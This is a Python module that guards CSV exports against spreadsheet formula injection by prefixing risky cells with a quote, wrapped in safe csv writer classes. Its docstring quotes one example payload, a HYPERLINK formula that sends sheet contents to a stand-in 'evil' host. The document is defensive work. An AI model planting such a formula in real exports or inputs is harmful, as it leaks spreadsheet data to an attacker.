"""CSV cells that a spreadsheet cannot run: the one escape every CSV writer applies.

Party names, query ids, reasons and actors come from whoever wrote the input; a cell starting
with ``=``, ``+``, ``-`` or ``@`` (or TAB or CR, which some spreadsheets skip before such a
character; and the full-width forms of the four) is read as a formula by Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("http://evil/?"&A1,"click")`` exfiltrates the sheet. Such a cell is
written with a leading ``'``, which spreadsheets show as text and readers can strip.

Numbers stay numbers: values of numeric type are written as they are, and in a column declared
numeric a string that is a plain decimal number (``-12.5``, ``+3``, ``1e-3``) is kept too, so
sums and sorts still work.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Mapping
from decimal import Decimal
from typing import Any

#: Characters that make a spreadsheet read a cell as a formula when they open it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def escape_cell(value: Any, *, numeric: bool = False) -> Any:
    """``value`` made safe for a CSV cell: a string starting a formula gets a leading ``'``
    (unless ``numeric`` and it is a plain number); numbers, booleans and None pass unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if not _needs_quote(text):
        return text
    if numeric and _NUMBER.fullmatch(text):
        return text
    return "'" + text


def _needs_quote(text: str) -> bool:
    """A formula start, or a value that would read back as an escaped one (``'=x`` is written
    ``''=x``), so that :func:`unescape_cell` gives back exactly what was written."""
    while text.startswith("'"):
        text = text[1:]
    return text.startswith(FORMULA_STARTS)


def unescape_cell(text: str) -> str:
    """The value :func:`escape_cell` was given (readers that verify what they read back, such as
    the audit export's own check, need the original bytes)."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


def escape_row(row: Mapping[str, Any], numeric: Collection[str] = ()) -> dict[str, Any]:
    return {key: escape_cell(value, numeric=key in numeric) for key, value in row.items()}


class SafeDictWriter(csv.DictWriter):
    """:class:`csv.DictWriter` whose every cell (the header row included) goes through
    :func:`escape_cell`; ``numeric`` names the columns whose plain numbers stay numbers."""

    def __init__(self, f, fieldnames, *args, numeric: Collection[str] = (), **kwargs):
        super().__init__(f, fieldnames, *args, **kwargs)
        self.numeric = frozenset(numeric)

    def writerow(self, rowdict: Mapping[str, Any]):
        return super().writerow(escape_row(rowdict, self.numeric))

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]):
        for row in rowdicts:
            self.writerow(row)


class SafeWriter:
    """:func:`csv.writer` whose every cell goes through :func:`escape_cell`; ``numeric`` holds
    the positions of numeric columns."""

    def __init__(self, f, *args, numeric: Collection[int] = (), **kwargs):
        self._writer = csv.writer(f, *args, **kwargs)
        self.numeric = frozenset(numeric)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(
            [escape_cell(value, numeric=n in self.numeric) for n, value in enumerate(row)]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)
